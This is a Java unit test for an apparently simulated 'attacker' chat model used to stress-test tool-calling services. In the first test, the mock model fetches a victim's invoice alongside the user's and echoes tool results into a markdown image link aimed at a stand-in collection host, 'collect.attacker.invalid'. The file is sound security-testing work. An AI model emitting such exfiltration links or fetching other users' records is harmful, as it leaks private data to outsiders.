package dev.ringfence.eval;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

final class AttackerModelTest {
  private static final String TOOLS =
      """
      [{"type":"function","function":{"name":"get_invoice","parameters":{"type":"object",
        "properties":{"number":{"type":"string"}},"required":["number"]}}}]
      """;

  private final AttackerModel model = AttackerModel.start();
  private final ServiceClient client = new ServiceClient(model.baseUrl());
  private final Facts facts =
      Facts.of(Map.of("invoice", "A-1"), Map.of("invoice", "B-2"), Map.of());

  @AfterEach
  void stop() {
    client.close();
    model.close();
  }

  private String post(String messages, boolean stream) {
    String raw =
        client
            .send(
                "POST",
                "/chat/completions",
                "",
                "{\"stream\":" + stream + ",\"tools\":" + TOOLS + ",\"messages\":" + messages + "}",
                Map.of())
            .capture()
            .raw();
    return raw.substring(raw.indexOf('\n') + 1);
  }

  private Script script() {
    Attack.CallPlan call =
        new Attack.CallPlan("*", "string", "{victim.invoice}", Map.of(), "", false);
    return new Script(
        new Attack(
            "f", "a", Attack.Scene.PLAIN, List.of("x"), List.of(call), List.of("image"), List.of()),
        facts,
        0);
  }

  @Test
  void callsWhatIsPlannedAndThenRepeatsWhatItSaw() {
    Script script = script();
    String user = "{\"role\":\"user\",\"content\":\"hello " + model.play("abcdef", script) + "\"}";
    JsonNode first = ServiceClient.parse(post("[" + user + "]", false));
    JsonNode calls = first.at("/choices/0/message/tool_calls");
    assertThat(calls).hasSize(2);
    assertThat(calls.at("/0/function/arguments").asText()).isEqualTo("{\"number\":\"A-1\"}");
    assertThat(calls.at("/1/function/arguments").asText()).isEqualTo("{\"number\":\"B-2\"}");
    String results =
        "{\"role\":\"tool\",\"tool_call_id\":\"other\",\"content\":\"row one\"},"
            + "{\"role\":\"tool\",\"tool_call_id\":\"ids\",\"content\":\"row two\"}";
    JsonNode second = ServiceClient.parse(post("[" + user + "," + results + "]", false));
    assertThat(second.at("/choices/0/message/content").asText())
        .contains("row one", "row two", "![chart](https://collect.attacker.invalid");
    assertThat(script.attempted()).isEqualTo(2);
    assertThat(script.executed()).isEqualTo(2);
    assertThat(script.received()).hasSize(1);
  }

  @Test
  void streamsInTheFormOfOpenAi() {
    String user =
        "{\"role\":\"user\",\"content\":\"hello " + model.play("bcdefg", script()) + "\"}";
    String calls = post("[" + user + "]", true);
    assertThat(calls).startsWith("data: {").endsWith("data: [DONE]\n\n");
    assertThat(calls).contains("\"finish_reason\":\"tool_calls\"", "\"index\":1", "\"usage\":");
    String results = "{\"role\":\"tool\",\"content\":\"a\"},{\"role\":\"tool\",\"content\":\"b\"}";
    assertThat(post("[" + user + "," + results + "]", true))
        .contains("\"finish_reason\":\"stop\"", "\"content\":\"Here is\"");
  }

  @Test
  void messageWithoutACaseIsRefused() {
    assertThat(post("[{\"role\":\"user\",\"content\":\"hello\"}]", false)).contains("no script");
  }
}
